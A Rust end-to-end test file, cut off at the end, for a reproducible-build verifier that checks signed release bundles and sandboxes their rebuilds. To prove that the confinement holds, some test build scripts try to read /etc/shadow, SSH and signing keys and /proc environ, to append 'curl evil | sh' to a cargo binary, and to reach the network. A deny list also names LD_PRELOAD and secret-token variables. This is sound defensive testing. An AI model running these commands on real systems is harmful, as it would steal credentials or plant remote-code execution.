//! End-to-end tests of `vouch rebuild`: the example project,
//! released in one directory, rebuilt bit for bit from a copy in another,
//! deeper directory with no network and an empty cargo home; a changed byte
//! caught at the source check, or explained at the artifact comparison;
//! signed rebuild reports counted by the builder role; and bad input.
//! A bundle is verified under `--trust` before anything it controls
//! runs, and the build is confined (the tests below the "verify first"
//! heading, one per line of the README's "What a build can and cannot touch").

use std::path::Path;
use vouch_signing::verify::VerifyReport;
use vouch_tests::{Dir, Release, TestCommand, copy_tree, vouch_bin};

fn deeper_copy(r: &Release) -> std::path::PathBuf {
    let copy = r.dir.join("reviewer/checkouts/a/b/c/hello-src");
    copy_tree(&r.src, &copy);
    copy
}

#[test]
fn rebuilds_bit_for_bit_offline_with_an_empty_cargo_home() {
    let r = Release::new();
    r.release("0.1.0", &["--include-dependencies", "--include-artifacts"]).ok();
    let b = r.bundle("0.1.0");
    let m: serde_json::Value = vouch_tests::manifest_json(&b);
    assert_eq!(m["build"]["vendored"]["path"], "deps/vendor.tar");
    let copy = deeper_copy(&r);
    let empty_home = r.dir.mkdir("empty-cargo-home");
    let policy = r.policy("trust.toml", &["release"]);
    let run = TestCommand::new(
        "unshare",
        [
            "-n",
            "--",
            vouch_bin().to_str().unwrap(),
            "rebuild",
            b.to_str().unwrap(),
            "--source",
            copy.to_str().unwrap(),
            "--trust",
            policy.to_str().unwrap(),
        ],
    )
    .env("CARGO_HOME", &empty_home)
    .env_remove("SOURCE_DATE_EPOCH")
    .run();
    run.ok().says("identical  target/release/hello").says("REPRODUCED");
    assert_eq!(std::fs::read_dir(&empty_home).unwrap().count(), 0, "the cargo home stays untouched");
}

#[test]
fn a_changed_byte_is_refused_at_the_source_check_or_explained() {
    let r = Release::new();
    r.release("0.1.0", &["--include-artifacts"]).ok();
    let b = r.bundle("0.1.0");
    let copy = deeper_copy(&r);
    let main = copy.join("src/main.rs");
    let text = std::fs::read_to_string(&main).unwrap().replace("hello from", "hullo from");
    std::fs::write(&main, text).unwrap();
    let work = r.dir.mkdir("work");
    let policy = r.policy("trust.toml", &["release"]);
    rebuild_cmd(&b, &copy, &policy, &["--workdir", work.to_str().unwrap()])
        .run()
        .code(1)
        .says("modified  src/main.rs")
        .says("refusing to rebuild");
    assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0, "nothing built");

    // Past the source check (a test-only route), the artifact comparison fails, explained.
    let run = rebuild_cmd(&b, &copy, &policy, &["--workdir", work.to_str().unwrap(), "--unchecked-source-for-tests"])
        .env("PATH", "/usr/bin:/bin:".to_string() + &std::env::var("PATH").unwrap())
        .run();
    run.code(1)
        .says("DIFFERENT  target/release/hello")
        .says("first difference at byte")
        .says("release  ")
        .says("rebuilt  ")
        .says("NOT REPRODUCED");
    // diffoscope (installed by scripts/test.sh) explains the difference in a text report.
    vouch_tests::peer_tool("diffoscope");
    let line = run
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("diffoscope report for target/release/hello: "))
        .unwrap_or_else(|| panic!("no diffoscope report in:\n{}", run.stdout));
    let report = std::fs::read_to_string(line).unwrap();
    // The rebuilt side's string, which only the changed source has.
    assert!(
        report.contains("hullo from"),
        "the report shows the changed string:\n{}",
        &report[..report.len().min(2000)]
    );
    std::fs::remove_file(line).unwrap();
    assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0, "work directory removed without --keep");
}

#[test]
fn signed_rebuild_reports_count_for_the_builder_role() {
    let r = Release::new();
    r.release("0.1.0", &[]).ok();
    let b = r.bundle("0.1.0");
    // An independent rebuilder with a key of its own.
    let builder = r.builder_key();
    let policy = r.builder_policy("trust.toml", &builder);
    TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
        .run()
        .code(1)
        .says("role builder: 0 of 1");
    let copy = deeper_copy(&r);
    // The rebuilder verifies the release under its own policy (the release
    // key), before the builder role can be met.
    let release_policy = r.policy("release-trust.toml", &["release"]);
    rebuild_cmd(&b, &copy, &release_policy, &["--sign-report", "--key", builder.secret.to_str().unwrap()])
        .run()
        .ok()
        .says("REPRODUCED");
    let reports: Vec<String> =
        std::fs::read_dir(b.join("reports")).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    assert_eq!(reports.len(), 2, "{reports:?}");
    let v =
        TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--format", "json"])
            .run();
    v.ok();
    let report: VerifyReport = v.json();
    assert!(report.counted_keys.iter().any(|k| k.starts_with("gov-rebuilder")), "{:?}", report.counted_keys);
    // The report verifies with the reference minisign too.
    let json = reports.iter().find(|n| n.ends_with(".json")).unwrap();
    TestCommand::new(
        vouch_tests::peer_tool("minisign"),
        ["-Vm", b.join("reports").join(json).to_str().unwrap(), "-p", builder.public.to_str().unwrap()],
    )
    .run()
    .ok();
    // A tampered report no longer counts.
    let path = b.join("reports").join(json);
    let text = std::fs::read_to_string(&path).unwrap().replace("\"reproduced\":true", "\"reproduced\":true ");
    std::fs::write(&path, text).unwrap();
    TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
        .run()
        .code(1)
        .says("does not count");
}

/// A non-Cargo project whose build hangs, or writes outside its directory,
/// only when rebuilt (the rebuild's work directory is `.../source`).
fn script_project(r: &Release, body: &str) -> std::path::PathBuf {
    let src = r.dir.mkdir("script-src");
    std::fs::write(
        src.join("build.sh"),
        format!("set -e\ncase \"$PWD\" in */source) {body} ;; esac\nprintf 'built\\n' > out.bin\n"),
    )
    .unwrap();
    r.args(&src, "script", "1.0.0")
        .args(["--no-git", "--exclude", "out.bin", "--artifact", "out.bin"])
        .build(&["sh", "build.sh"])
        .run()
        .ok();
    src
}

#[test]
fn a_hanging_build_is_killed_at_the_timeout_and_cleaned_up() {
    let r = Release::new();
    let src = script_project(&r, "sleep 600");
    let work = r.dir.mkdir("work");
    let b = r.bundles.join("script-1.0.0");
    let policy = r.policy("trust.toml", &["release"]);
    let started = std::time::Instant::now();
    rebuild_cmd(&b, &src, &policy, &["--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2"])
        .run()
        .code(2)
        .says("timed out after 2 s");
    assert!(started.elapsed().as_secs() < 60, "the build was killed");
    assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0, "work directory removed");
    rebuild_cmd(
        &b,
        &src,
        &policy,
        &["--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "2", "--keep"],
    )
    .run()
    .code(2);
    assert!(work.join("script-1.0.0-rebuild/build.log").exists(), "--keep keeps the work directory and its log");
}

#[test]
fn a_build_writing_outside_its_work_directory_fails() {
    let r = Release::new();
    let outside = r.dir.mkdir("outside");
    let src = script_project(&r, &format!("echo leak > {}/leaked", outside.display()));
    let b = r.bundles.join("script-1.0.0");
    let policy = r.policy("trust.toml", &["release"]);
    rebuild_cmd(&b, &src, &policy, &["--exclude", "out.bin"]).run().code(2).says("build failed");
    assert!(!outside.join("leaked").exists(), "the write outside the work directory was stopped");
}

#[test]
fn bad_input_exits_2() {
    let r = Release::new();
    let src = script_project(&r, "true");
    let b = r.bundles.join("script-1.0.0");
    let policy = r.policy("trust.toml", &["release"]);
    let trust = policy.to_str().unwrap();
    // An unwritable work directory (a file in the way).
    let blocker = r.dir.write("blocker", "x");
    rebuild_cmd(&b, &src, &policy, &["--exclude", "out.bin", "--workdir", blocker.to_str().unwrap()])
        .run()
        .code(2)
        .says("blocker");
    // A bundle without a build section.
    let plain = r.dir.mkdir("plain/p-1");
    let d = Dir::new();
    d.write("f", "x");
    TestCommand::vouch([
        "manifest",
        "create",
        d.path().to_str().unwrap(),
        "--name",
        "p",
        "--version",
        "1",
        "-o",
        plain.join("manifest.json").to_str().unwrap(),
    ])
    .run()
    .ok();
    TestCommand::vouch(["rebuild", plain.to_str().unwrap(), "--source", d.path().to_str().unwrap(), "--trust", trust])
        .run()
        .code(2)
        .says("no build section");
    // Missing source.
    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", "/nonexistent/src", "--trust", trust])
        .run()
        .code(2)
        .says("/nonexistent/src");
    // --sign-report on an archive, and without a key.
    rebuild_cmd(&b, &src, &policy, &["--exclude", "out.bin", "--sign-report"]).run().code(2).says("--key");
    // No policy at all: --trust is required.
    TestCommand::vouch(["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--exclude", "out.bin"])
        .run()
        .code(2)
        .says("--trust");
    // A policy that cannot be read.
    TestCommand::vouch([
        "rebuild",
        b.to_str().unwrap(),
        "--source",
        src.to_str().unwrap(),
        "--trust",
        "/nonexistent/trust.toml",
        "--exclude",
        "out.bin",
    ])
    .run()
    .code(2)
    .says("/nonexistent/trust.toml");
    let _ = Path::new("");
}

// ---- verify first, confine what the bundle controls ----

/// The script project released and signed, with its bundle and a policy
/// trusting the release key.
fn script_bundle(r: &Release, body: &str) -> (std::path::PathBuf, std::path::PathBuf, std::path::PathBuf) {
    let src = script_project(r, body);
    (src, r.bundles.join("script-1.0.0"), r.policy("trust.toml", &["release"]))
}

/// `vouch rebuild` of the script bundle with a work directory of its own.
fn rebuild_script(b: &Path, src: &Path, policy: &Path, work: &Path, extra: &[&str]) -> TestCommand {
    let args: Vec<&str> = ["--exclude", "out.bin", "--workdir", work.to_str().unwrap()]
        .into_iter()
        .chain(extra.iter().copied())
        .collect();
    rebuild_cmd(b, src, policy, &args)
}

fn is_empty(dir: &Path) -> bool {
    std::fs::read_dir(dir).map(|mut d| d.next().is_none()).unwrap_or(true)
}

#[test]
fn a_bundle_that_does_not_verify_is_refused_before_anything_it_controls_runs() {
    let r = Release::new();
    let marker = r.dir.join("ran");
    // A build that, if it ever ran unconfined, would leave a marker.
    let (src, b, policy) = script_bundle(&r, &format!("touch {}", marker.display()));
    let work = r.dir.mkdir("work");
    let builder_key = r.builder_key().secret;
    let sign_report = ["--sign-report", "--key", builder_key.to_str().unwrap()];

    // Signed by a key outside the policy.
    let other = Release::new();
    let foreign = other.policy("foreign.toml", &["release"]);
    rebuild_script(&b, &src, &foreign, &work, &sign_report)
        .run()
        .code(1)
        .says("not in the policy")
        .says("refusing to rebuild");
    assert!(is_empty(&work) && !marker.exists() && !b.join("reports").exists(), "nothing ran, nothing was written");

    // Edited after signing: the command now does something else.
    let manifest = b.join("manifest.json");
    let original = std::fs::read_to_string(&manifest).unwrap();
    edit_manifest(&b, |m| {
        m["build"]["command"] = serde_json::json!(["sh", "-c", "touch ran-edited; printf 'built\\n' > out.bin"])
    });
    rebuild_script(&b, &src, &policy, &work, &sign_report)
        .run()
        .code(1)
        .says("does not verify")
        .says("refusing to rebuild");
    assert!(is_empty(&work) && !b.join("reports").exists(), "the edited command did not run");
    std::fs::write(&manifest, &original).unwrap();

    // Unsigned.
    std::fs::rename(b.join("signatures"), r.dir.join("signatures-aside")).unwrap();
    rebuild_script(&b, &src, &policy, &work, &sign_report)
        .run()
        .code(1)
        .says("no signatures")
        .says("refusing to rebuild");
    assert!(is_empty(&work) && !marker.exists() && !b.join("reports").exists(), "the unsigned build did not run");
    std::fs::rename(r.dir.join("signatures-aside"), b.join("signatures")).unwrap();

    // Verified, it runs (confined: the marker outside the work directory stays unwritten).
    rebuild_script(&b, &src, &policy, &work, &[]).run().code(2).says("verified script 1.0.0").says("build failed");
    assert!(!marker.exists());
}

#[test]
fn sign_report_checks_first_that_the_report_can_be_written() {
    let r = Release::new();
    let (src, b, policy) = script_bundle(&r, "true");
    let work = r.dir.mkdir("work");
    let builder_key = r.builder_key().secret;
    // reports/ is a file: no report can go there.
    std::fs::write(b.join("reports"), "in the way").unwrap();
    rebuild_script(&b, &src, &policy, &work, &["--sign-report", "--key", builder_key.to_str().unwrap()])
        .run()
        .code(2)
        .says("cannot write a report into")
        .says("reports");
    assert!(is_empty(&work), "nothing was built");
}

/// Edits the bundle's manifest.json as JSON (its signature then fails, but
/// the parser refuses it first).
fn edit_manifest(b: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
    let p = b.join("manifest.json");
    let mut m: serde_json::Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
    edit(&mut m);
    std::fs::write(&p, serde_json::to_vec(&m).unwrap()).unwrap();
}

#[test]
fn env_names_outside_the_allow_list_and_workdirs_outside_the_source_are_refused_when_parsed() {
    let r = Release::new();
    let (src, b, policy) = script_bundle(&r, "true");
    let work = r.dir.mkdir("work");
    let manifest = std::fs::read(b.join("manifest.json")).unwrap();
    for name in ["LD_PRELOAD", "PATH", "AWS_SECRET_KEY", "CARGO_REGISTRY_TOKEN", "RUSTC_WRAPPER"] {
        edit_manifest(&b, |m| {
            m["build"]["env"][name] = serde_json::json!("/tmp/x");
        });
        rebuild_script(&b, &src, &policy, &work, &[])
            .run()
            .code(1)
            .says(&format!("build.env sets \"{name}\""))
            .says("not an allow-listed");
        TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()])
            .run()
            .code(2)
            .says(name);
        std::fs::write(b.join("manifest.json"), &manifest).unwrap();
    }
    for dir in ["../..", "/", "a/../../b", "./x/.."] {
        edit_manifest(&b, |m| m["build"]["workdir"] = serde_json::json!(dir));
        rebuild_script(&b, &src, &policy, &work, &[]).run().code(1).says("leaves the source root");
        std::fs::write(b.join("manifest.json"), &manifest).unwrap();
    }
    assert!(is_empty(&work), "nothing was built");
}

#[test]
fn the_build_starts_from_a_clean_environment() {
    let r = Release::new();
    // The build fails if anything of the reviewer's environment reaches it.
    let (src, b, policy) = script_bundle(
        &r,
        "if env | grep -q -e REVIEWER_ -e LD_PRELOAD -e AWS_; then env >&2; exit 7; fi; test \"$HOME\" = \"${PWD%/source}/home\"",
    );
    let work = r.dir.mkdir("work");
    rebuild_script(&b, &src, &policy, &work, &[])
        .env("REVIEWER_SECRET_TOKEN", "hunter2")
        .env("AWS_SECRET_KEY", "hunter2")
        .env("LD_PRELOAD", "")
        .run()
        .ok()
        .says("identical  out.bin")
        .says("REPRODUCED");
    assert!(is_empty(&work));
}

#[test]
fn a_build_cannot_read_outside_its_work_directory_the_toolchain_and_the_system() {
    let r = Release::new();
    // A secret of the reviewer outside the work directory, the reviewer's
    // own signing key, and the home directory.
    let secret = r.dir.write("reviewer-home/.ssh/id_ed25519", "THE-REVIEWERS-SECRET\n");
    let home = std::env::var("HOME").unwrap();
    for (what, body) in [
        ("secret", format!("cat {}", secret.display())),
        ("key", format!("cat {}", r.key.display())),
        ("home", format!("ls -a {home}")),
        ("shadow", "cat /etc/shadow".to_string()),
        // vouch's own environment (the reviewer's), through /proc.
        ("environ", "cat /proc/$PPID/environ".to_string()),
    ] {
        let (src, b, policy) = script_bundle(&r, &body);
        let work = r.dir.mkdir(format!("work-{what}"));
        let run = rebuild_script(&b, &src, &policy, &work, &[]).run();
        run.code(2).says("build failed").says("Permission denied");
        assert!(
            !run.stderr.contains("THE-REVIEWERS-SECRET") && !run.stderr.contains("untrusted comment"),
            "{what}: {}",
            run.stderr
        );
        assert!(is_empty(&work));
        std::fs::remove_dir_all(r.dir.join("script-src")).unwrap();
        std::fs::remove_dir_all(r.dir.join("bundles")).unwrap();
    }
}

#[test]
fn a_build_cannot_write_the_cargo_home_or_outside_its_work_directory() {
    let r = Release::new();
    // The reviewer's cargo home, whose bin/cargo runs unconfined next time.
    let cargo_home = r.dir.mkdir("reviewer-cargo-home");
    let cargo = r.dir.write("reviewer-cargo-home/bin/cargo", "#!/bin/sh\n");
    let (src, b, policy) = script_bundle(&r, &format!("echo 'curl evil | sh' >> {}", cargo.display()));
    let work = r.dir.mkdir("work");
    rebuild_script(&b, &src, &policy, &work, &[])
        .env("CARGO_HOME", &cargo_home)
        .run()
        .code(2)
        .says("build failed")
        .says("Permission denied");
    assert_eq!(std::fs::read_to_string(&cargo).unwrap(), "#!/bin/sh\n", "bin/cargo is unchanged");
    assert!(is_empty(&work));
}

#[test]
fn a_build_cannot_reach_the_network() {
    let r = Release::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let (src, b, policy) = script_bundle(
        &r,
        &format!(
            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('CONNECTED')\""
        ),
    );
    let work = r.dir.mkdir("work");
    let run = rebuild_script(&b, &src, &policy, &work, &[]).run();
    run.code(2).says("build failed").says("Network is unreachable");
    assert!(!run.stderr.contains("CONNECTED"));
    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock), "nothing connected");
    assert!(is_empty(&work));
    // Where no network namespace can be made, Landlock's network rules
    // (Linux 6.7+) deny the connection instead.
    let run = rebuild_script(&b, &src, &policy, &work, &["--landlock-network-for-tests"]).run();
    run.code(2).says("build failed").says("Permission denied");
    assert!(!run.stderr.contains("CONNECTED"));
    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock), "nothing connected");
    assert!(is_empty(&work));
}

/// Processes whose command line is exactly `argv`.
fn processes_running(argv: &[&str]) -> Vec<String> {
    let want: Vec<u8> = argv.iter().flat_map(|a| a.bytes().chain([0])).collect();
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_str().is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit())))
        .filter(|e| std::fs::read(e.path().join("cmdline")).is_ok_and(|c| c == want))
        .map(|e| e.file_name().into_string().unwrap())
        .collect()
}

#[test]
fn an_interrupted_rebuild_kills_the_whole_build_and_removes_its_work_directory() {
    for (signal, keep) in [("TERM", false), ("INT", true)] {
        let r = Release::new();
        // A build with a child of its own, each sleeping long past the test.
        let nap = if keep { "6121" } else { "6122" };
        let (src, b, policy) = script_bundle(&r, &format!("sleep {nap} & sleep {nap}"));
        let work = r.dir.mkdir("work");
        let mut args = vec![
            "rebuild",
            b.to_str().unwrap(),
            "--source",
            src.to_str().unwrap(),
            "--trust",
            policy.to_str().unwrap(),
        ];
        args.extend(["--exclude", "out.bin", "--workdir", work.to_str().unwrap(), "--timeout", "300"]);
        if keep {
            args.push("--keep");
        }
        let child = std::process::Command::new(vouch_bin())
            .args(&args)
            .env_remove("SOURCE_DATE_EPOCH")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let started = std::time::Instant::now();
        while processes_running(&["sleep", nap]).len() < 2 {
            assert!(started.elapsed().as_secs() < 60, "the build did not start");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        TestCommand::new("kill", [format!("-{signal}"), child.id().to_string()]).run().ok();
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "SIG{signal}: {stderr}");
        assert!(stderr.contains("interrupted"), "SIG{signal}: {stderr}");
        assert!(started.elapsed().as_secs() < 60, "stopped promptly");
        assert!(
            processes_running(&["sleep", nap]).is_empty(),
            "SIG{signal}: the build's whole process group was killed"
        );
        if keep {
            assert!(work.join("script-1.0.0-rebuild/build.log").exists(), "--keep keeps the work directory");
            assert!(stderr.contains("work directory is kept"), "{stderr}");
        } else {
            assert!(is_empty(&work), "SIG{signal}: work directory removed");
            assert!(stderr.contains("work directory was removed"), "{stderr}");
        }
    }
}

/// Writes `report` as `reports/<name>.json` of the bundle, signed with the
/// builder key `key` by `vouch sign` (minisign's default comment).
fn plant_report(b: &Path, key: &Path, name: &str, report: &serde_json::Value) {
    let dir = b.join("reports");
    std::fs::create_dir_all(&dir).unwrap();
    let p = dir.join(format!("{name}.json"));
    std::fs::write(&p, serde_json::to_vec(report).unwrap()).unwrap();
    TestCommand::vouch(["sign", p.to_str().unwrap(), "--key", key.to_str().unwrap()]).run().ok();
}

#[test]
fn a_builder_report_counts_only_when_every_artifact_is_identical() {
    let r = Release::new();
    let (_src, b, _) = script_bundle(&r, "true");
    let builder = r.builder_key();
    let key = builder.secret.clone();
    let policy = r.builder_policy("builders.toml", &builder);
    let bytes = std::fs::read(b.join("manifest.json")).unwrap();
    let m: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    let digest = format!("sha256:{}", sha256_hex(&bytes));
    let art = &m["artifacts"][0];
    let other = format!("sha256:{}", "0".repeat(64));
    let report = |artifacts: serde_json::Value| {
        serde_json::json!({
            "schema": "vouch.rebuild-report/v1", "project": m["project"], "manifest_digest": digest, "command": ["sh", "build.sh"],
            "toolchain": {}, "toolchain_matches": true, "artifacts": artifacts, "reproduced": true,
        })
    };
    let entry = |actual: &str, identical: bool| serde_json::json!({"path": art["path"], "expected": art["digest"], "expected_size": art["size"], "actual": actual, "actual_size": art["size"], "identical": identical});
    let verify = || TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap()]).run();
    for (why, artifacts) in [
        ("does not name artifact out.bin", serde_json::json!([])),
        ("is not identical", serde_json::json!([entry(&other, false)])),
        ("is not identical", serde_json::json!([entry(&other, true)])),
        ("is not identical", serde_json::json!([entry(art["digest"].as_str().unwrap(), false)])),
        (
            "not an artifact of the manifest",
            serde_json::json!([entry(art["digest"].as_str().unwrap(), true), {"path": "extra.bin", "expected": other, "expected_size": 1, "identical": true, "actual": other}]),
        ),
    ] {
        plant_report(&b, &key, "builder", &report(artifacts));
        verify().code(1).says("does not count").says(why).says("role builder: 0 of 1");
    }
    plant_report(&b, &key, "builder", &report(serde_json::json!([entry(art["digest"].as_str().unwrap(), true)])));
    verify().ok().says("role builder: 1 of 1");
    // The same report under a legacy (`minisign -S -l`) signature does not
    // count, and the binary says how to accept it; with --allow-legacy it counts.
    let (rep, sig) = (b.join("reports/builder.json"), b.join("reports/builder.json.minisig"));
    let comment = std::fs::read_to_string(&sig).unwrap().lines().nth(2).unwrap().to_string();
    let comment = comment.strip_prefix("trusted comment: ").unwrap().to_string();
    vouch_tests::minisign_sign_legacy(&key, &rep, &sig, &comment).ok();
    let refused = verify();
    refused.code(1).says("does not count").says("legacy").says("role builder: 0 of 1");
    assert!(
        refused.stderr.lines().any(|l| l.starts_with("hint: ") && l.contains("--allow-legacy")),
        "no --allow-legacy hint on stderr:\n{}",
        refused.stderr
    );
    TestCommand::vouch(["verify", b.to_str().unwrap(), "--trust", policy.to_str().unwrap(), "--allow-legacy"])
        .run()
        .ok()
        .says("role builder: 1 of 1");
}

fn sha256_hex(bytes: &[u8]) -> String {
    vouch_manifests::Digest::of(bytes).hex()
}

/// Every path below `dir`, relative, sorted.
fn listing(dir: &Path) -> Vec<String> {
    fn walk(root: &Path, d: &Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(d).unwrap() {
            let e = e.unwrap();
            out.push(e.path().strip_prefix(root).unwrap().display().to_string());
            if e.file_type().unwrap().is_dir() {
                walk(root, &e.path(), out);
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

#[test]
fn locked_crates_come_from_the_local_cache_into_a_private_cargo_home() {
    let r = Release::new();
    r.release("0.1.0", &["--include-artifacts"]).ok();
    let b = r.bundle("0.1.0");
    let policy = r.policy("trust.toml", &["release"]);
    let copy = deeper_copy(&r);
    // A cargo cache holding exactly the locked crate (itoa), as the
    // reviewer's machine has it.
    let real_home = std::env::var_os("CARGO_HOME")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| Path::new(&std::env::var_os("HOME").unwrap()).join(".cargo"));
    let m: serde_json::Value = vouch_tests::manifest_json(&b);
    let deps = m["build"]["dependencies"].as_array().unwrap();
    assert_eq!(deps.len(), 1, "{deps:?}");
    let file = format!("{}-{}.crate", deps[0]["name"].as_str().unwrap(), deps[0]["version"].as_str().unwrap());
    let index = std::fs::read_dir(real_home.join("registry/cache"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.join(&file).is_file())
        .expect("the release's cargo build cached the crate");
    let cache = r.dir.mkdir("reviewer-cargo-home");
    let cached = cache.join("registry/cache").join(index.file_name().unwrap()).join(&file);
    std::fs::create_dir_all(cached.parent().unwrap()).unwrap();
    std::fs::copy(index.join(&file), &cached).unwrap();
    let before = listing(&cache);
    let rebuild = |home: &Path| rebuild_cmd(&b, &copy, &policy, &[]).env("CARGO_HOME", home).run();
    rebuild(&cache).ok().says("identical  target/release/hello").says("REPRODUCED");
    assert_eq!(listing(&cache), before, "the reviewer's cargo home is read, never written");

    // A crate missing from the cache is named, with the way out.
    let empty = r.dir.mkdir("empty-cargo-home");
    rebuild(&empty)
        .code(2)
        .says(&format!(
            "dependency {} {} is not in the local cargo cache",
            deps[0]["name"].as_str().unwrap(),
            deps[0]["version"].as_str().unwrap()
        ))
        .says("--include-dependencies");
    assert!(is_empty(&empty));
    // A cached file that is not the locked crate is refused.
    std::fs::write(&cached, b"not the crate").unwrap();
    rebuild(&cache).code(2).says("is not the locked crate");
}

#[test]
fn the_default_work_directory_is_removed_or_kept_as_asked() {
    let r = Release::new();
    let (src, b, policy) = script_bundle(&r, "true");
    let tmp = r.dir.mkdir("tmp");
    let run = |extra: &[&str]| {
        let mut args = vec![
            "rebuild",
            b.to_str().unwrap(),
            "--source",
            src.to_str().unwrap(),
            "--trust",
            policy.to_str().unwrap(),
            "--exclude",
            "out.bin",
        ];
        args.extend(extra);
        TestCommand::vouch(args).env("TMPDIR", &tmp).run()
    };
    run(&[]).ok();
    assert!(is_empty(&tmp), "nothing left behind");
    let kept = run(&["--keep"]);
    kept.ok();
    let dir =
        kept.stderr.lines().find_map(|l| l.strip_prefix("work directory kept: ")).expect("the kept directory is named");
    assert!(Path::new(dir).join("build.log").is_file(), "--keep keeps {dir}");
}

// ---- git metadata, the recorded toolchain, C builds, named causes ----

/// Removes the diffoscope reports a human rebuild report names.
fn forget_diffoscope(run: &vouch_tests::Run) {
    for l in run.stdout.lines() {
        if let Some((_, p)) = l.strip_prefix("diffoscope report for ").and_then(|r| r.split_once(": ")) {
            let _ = std::fs::remove_file(p);
        }
    }
}

/// A policy trusting `r`'s release key.
fn trust(r: &Release) -> std::path::PathBuf {
    r.policy("trust.toml", &["release"])
}

/// `vouch rebuild BUNDLE --source SRC --trust POLICY` plus `extra`.
fn rebuild_cmd(b: &Path, src: &Path, policy: &Path, extra: &[&str]) -> TestCommand {
    let mut args =
        vec!["rebuild", b.to_str().unwrap(), "--source", src.to_str().unwrap(), "--trust", policy.to_str().unwrap()];
    args.extend(extra);
    TestCommand::vouch(args).env_remove("SOURCE_DATE_EPOCH")
}

#[test]
fn a_build_that_embeds_git_rev_parse_reproduces_from_a_git_checkout_elsewhere_and_is_warned_about_from_a_copy() {
    let r = Release::new();
    // A build script that asks git, as ripgrep's build.rs does.
    let src = r.dir.mkdir("git-src");
    std::fs::write(
        src.join("build.sh"),
        "set -e\nv=$(git rev-parse --short HEAD 2>/dev/null || echo unknown)\nd=$(git describe --tags --dirty 2>/dev/null || echo none)\nprintf 'version 1.0 %s %s\\n' \"$v\" \"$d\" > out.bin\n",
    )
    .unwrap();
    std::fs::write(src.join(".gitignore"), "out.bin\n").unwrap();
    vouch_tests::git(&src, &["init", "-q", "-b", "main"]).ok();
    vouch_tests::git(&src, &["add", "."]).ok();
    vouch_tests::git(&src, &["commit", "-q", "-m", "first"]).ok();
    vouch_tests::git(&src, &["tag", "v1.0.0"]).ok();
    r.args(&src, "gitty", "1.0.0")
        .args(["--artifact", "out.bin", "--include-artifacts"])
        .build(&["sh", "build.sh"])
        .run()
        .ok();
    let built = std::fs::read_to_string(src.join("out.bin")).unwrap();
    let head = vouch_tests::git(&src, &["rev-parse", "--short", "HEAD"]).stdout.trim().to_string();
    assert_eq!(built, format!("version 1.0 {head} v1.0.0\n"), "the release build saw git");
    let b = r.bundles.join("gitty-1.0.0");
    let policy = trust(&r);

    // The reviewer's own clone, at another path.
    let checkout = r.dir.join("reviewer/elsewhere/gitty");
    std::fs::create_dir_all(checkout.parent().unwrap()).unwrap();
    vouch_tests::git(r.dir.path(), &["clone", "-q", src.to_str().unwrap(), checkout.to_str().unwrap()]).ok();
    let run = rebuild_cmd(&b, &checkout, &policy, &[]).run();
    run.ok().says("git metadata: the build sees a clean clone at commit").says("identical  out.bin").says("REPRODUCED");
    assert!(!run.stderr.contains("warning: no git metadata"), "{}", run.stderr);
    assert_eq!(
        vouch_tests::git(&checkout, &["status", "--porcelain"]).stdout,
        "",
        "the reviewer's checkout is untouched"
    );

    // A plain copy of the same files: said before the build, and the
    // difference named as the commit the release embeds.
    let copy = r.dir.join("reviewer/copy/gitty");
    std::fs::create_dir_all(&copy).unwrap();
    for f in ["build.sh", ".gitignore"] {
        std::fs::copy(src.join(f), copy.join(f)).unwrap();
    }
    let run = rebuild_cmd(&b, &copy, &policy, &[]).run();
    run.code(1)
        .says("warning: no git metadata for the build")
        .says("will differ")
        .says("DIFFERENT  out.bin")
        .says("likely cause: the release embeds the VCS commit")
        .says("NOT REPRODUCED");
    forget_diffoscope(&run);
    let warned = run.stderr.find("warning: no git metadata").unwrap();
    let rebuilding = run.stderr.find("rebuilding").unwrap();
    assert!(rebuilding < warned, "the warning comes after verification, before the build: {}", run.stderr);

    // A checkout at another commit is no checkout of the release.
    std::fs::write(checkout.join("NEWS"), "later\n").unwrap();
    vouch_tests::git(&checkout, &["add", "NEWS"]).ok();
    vouch_tests::git(&checkout, &["commit", "-q", "-m", "later"]).ok();
    rebuild_cmd(&b, &checkout, &policy, &[]).run().code(1).says("refusing to rebuild");
}

#[test]
fn the_recorded_rust_toolchain_is_picked_from_rustup() {
    // This machine has stable (1.95.0) and a nightly: release with the
    // nightly, rebuild with stable as the default.
    let toolchains = std::path::PathBuf::from(std::env::var("HOME").unwrap()).join(".rustup/toolchains");
    let nightly = std::fs::read_dir(&toolchains)
        .unwrap()
